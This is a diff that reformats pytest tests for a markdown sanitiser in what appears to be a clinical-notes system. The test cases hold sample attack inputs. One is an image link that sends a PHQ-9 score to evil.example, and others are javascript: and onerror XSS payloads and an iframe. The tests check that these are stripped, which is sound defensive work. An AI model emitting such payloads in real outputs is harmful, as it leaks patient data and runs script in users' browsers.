@@ -7,25 +7,30 @@ from core.engines.offline import OfflineEngine
 from core.safety import neutralize_markdown
 
 
-@pytest.mark.parametrize("text,expected", [
-    ("Mood ![chart](https://evil.example/x.png?d=PHQ-9%2014) improved.", "Mood chart improved."),
-    ("See ![](http://evil.example/t.gif) it.", "See  it."),
-    ("![alt][img]\n\n[img]: https://evil.example/i.png", "alt\n\n"),
-    ("[weekly sessions](https://evil.example/login) held", "weekly sessions held"),
-    ("[the [plan] review](javascript:alert(1)) done", "the [plan] review done"),
-    ("[![badge](http://e.example/b.svg)](http://e.example)", "badge"),
-    ("Visit <https://evil.example/a?b=c> or <someone@evil.example>.", "Visit  or ."),
-    ("<img src=x onerror=alert(1)>Stable<br/> mood <b>today</b>", "Stable mood today"),
-    ('<a href="https://evil.example">plan</a> <!-- hidden -->', "plan "),
-    ("<iframe\nsrc='https://evil.example'></iframe>text", "text"),
-])
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        ("Mood ![chart](https://evil.example/x.png?d=PHQ-9%2014) improved.", "Mood chart improved."),
+        ("See ![](http://evil.example/t.gif) it.", "See  it."),
+        ("![alt][img]\n\n[img]: https://evil.example/i.png", "alt\n\n"),
+        ("[weekly sessions](https://evil.example/login) held", "weekly sessions held"),
+        ("[the [plan] review](javascript:alert(1)) done", "the [plan] review done"),
+        ("[![badge](http://e.example/b.svg)](http://e.example)", "badge"),
+        ("Visit <https://evil.example/a?b=c> or <someone@evil.example>.", "Visit  or ."),
+        ("<img src=x onerror=alert(1)>Stable<br/> mood <b>today</b>", "Stable mood today"),
+        ('<a href="https://evil.example">plan</a> <!-- hidden -->', "plan "),
+        ("<iframe\nsrc='https://evil.example'></iframe>text", "text"),
+    ],
+)
 def test_images_links_and_html_are_neutralized(text, expected):
     assert neutralize_markdown(text) == expected
 
 
 def test_clinical_markdown_is_left_alone():
-    text = ("## Measurement-based outcomes\n\n| Measure | First | Latest |\n|---|---|---|\n| PHQ-9 | 14 | 6 |\n\n"
-            "- PHQ-9 < 10 at discharge; GAD-7 3<5\n1. Goal [N00123] met\n\n*Reliable improvement* and `code`.\n")
+    text = (
+        "## Measurement-based outcomes\n\n| Measure | First | Latest |\n|---|---|---|\n| PHQ-9 | 14 | 6 |\n\n"
+        "- PHQ-9 < 10 at discharge; GAD-7 3<5\n1. Goal [N00123] met\n\n*Reliable improvement* and `code`.\n"
+    )
     assert neutralize_markdown(text) == text
 
 
